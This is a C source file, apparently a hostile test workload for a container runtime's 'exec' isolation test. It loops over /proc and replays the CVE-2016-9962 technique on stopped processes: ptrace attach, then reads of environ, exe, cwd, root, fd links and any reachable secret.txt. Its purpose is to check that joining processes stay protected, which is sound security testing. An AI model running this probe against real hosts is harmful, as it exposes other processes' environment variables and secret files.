/* execspy: a hostile workload for the `cairn exec` attack test. It runs
 * as the container's user and, forever, looks for processes of its pid
 * namespace that are stopped (state T: the test holds a joining process
 * there, or a process started by a naive nsenter) and tries on each, once,
 * what CVE-2016-9962 used against `runc exec`: ptrace it, and read its
 * /proc files (status, environ, exe, cwd, root, the fd dir and every fd
 * link, and a file named secret.txt in every directory one of its fds
 * leads to, and in its cwd). One line per process, on stdout:
 *
 *   SPY pid=N uid=... capeff=... ptrace=ok|ERRNO environ=TEXT|ERRNO
 *       exe=LINK|ERRNO cwd=... root=... fds=N:LINK,...|ERRNO
 *       secret=TEXT|ERRNO ... END
 *
 * ERRNO is a name (EACCES, EPERM, ...). Environment text has its NULs
 * shown as '|'.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *ename(int e)
{
    switch (e) {
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EXDEV: return "EXDEV";
    case ELOOP: return "ELOOP";
    case ENOTDIR: return "ENOTDIR";
    default: return "EOTHER";
    }
}

/* Print " KEY=" then the file's first bytes (NULs and spaces as '|'),
 * or the errno. */
static void show_file(const char *key, const char *path)
{
    printf(" %s=", key);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("%s", ename(errno));
        return;
    }
    char buf[2048];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("%s", ename(e));
        return;
    }
    for (ssize_t i = 0; i < n; i++)
        putchar(buf[i] == 0 || buf[i] == ' ' || buf[i] == '\n' ? '|' : buf[i]);
}

static void show_link(const char *key, const char *path)
{
    char buf[512];
    ssize_t n = readlink(path, buf, sizeof buf - 1);
    printf(" %s=", key);
    if (n < 0) {
        printf("%s", ename(errno));
        return;
    }
    buf[n] = 0;
    printf("%s", buf);
}

/* The value of a /proc/PID/status field, spaces as '|'. */
static void show_status(int pid, const char *field, const char *key)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    printf(" %s=", key);
    FILE *f = fopen(path, "r");
    if (!f) {
        printf("%s", ename(errno));
        return;
    }
    size_t len = strlen(field);
    while (fgets(line, sizeof line, f)) {
        if (strncmp(line, field, len) == 0 && line[len] == ':') {
            for (char *p = line + len + 1; *p && *p != '\n'; p++)
                putchar(*p == '\t' || *p == ' ' ? '|' : *p);
            break;
        }
    }
    fclose(f);
}

static void attack(int pid)
{
    char path[64], sub[256];
    printf("SPY pid=%d", pid);
    show_status(pid, "Uid", "uid");
    show_status(pid, "CapEff", "capeff");
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        printf(" ptrace=ok");
        ptrace(PTRACE_DETACH, pid, 0, 0);
    } else {
        printf(" ptrace=%s", ename(errno));
    }
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    show_file("environ", path);
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    show_link("exe", path);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    show_link("cwd", path);
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    show_link("root", path);
    snprintf(sub, sizeof sub, "/proc/%d/cwd/secret.txt", pid);
    show_file("cwdsecret", sub);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    printf(" fds=");
    DIR *d = opendir(path);
    if (!d) {
        printf("%s", ename(errno));
    } else {
        struct dirent *e;
        char fds[64][16];
        int n = 0;
        while ((e = readdir(d)) && n < 64) {
            if (e->d_name[0] == '.')
                continue;
            snprintf(fds[n++], sizeof fds[0], "%.15s", e->d_name);
        }
        closedir(d);
        for (int i = 0; i < n; i++) {
            char link[128];
            snprintf(link, sizeof link, "%s/%s", path, fds[i]);
            char key[40];
            snprintf(key, sizeof key, "fd%s", fds[i]);
            show_link(key, link);
            snprintf(sub, sizeof sub, "%s/secret.txt", link);
            snprintf(key, sizeof key, "fd%ssecret", fds[i]);
            show_file(key, sub);
        }
    }
    printf(" END\n");
    fflush(stdout);
}

/* The state letter and start time of PID, from /proc/PID/stat. */
static int stat_of(int pid, char *state, unsigned long long *start)
{
    char path[64], buf[1024];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    char *p = strrchr(buf, ')');
    if (!p)
        return 0;
    *state = p[2];
    /* Field 22 (start time) is the 20th after the ')'. */
    char *f = p + 2;
    for (int i = 0; i < 19 && f; i++) {
        f = strchr(f, ' ');
        if (f)
            f++;
    }
    *start = f ? strtoull(f, NULL, 10) : 0;
    return 1;
}

int main(void)
{
    static struct {
        int pid;
        unsigned long long start;
    } seen[4096];
    int nseen = 0;
    printf("SPY ready\n");
    fflush(stdout);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid())
                continue;
            char state;
            unsigned long long start;
            if (!stat_of(pid, &state, &start) || state != 'T')
                continue;
            int known = 0;
            for (int i = 0; i < nseen; i++)
                known |= seen[i].pid == pid && seen[i].start == start;
            if (known || nseen == 4096)
                continue;
            seen[nseen].pid = pid;
            seen[nseen++].start = start;
            attack(pid);
        }
        if (d)
            closedir(d);
        usleep(20000);
    }
}
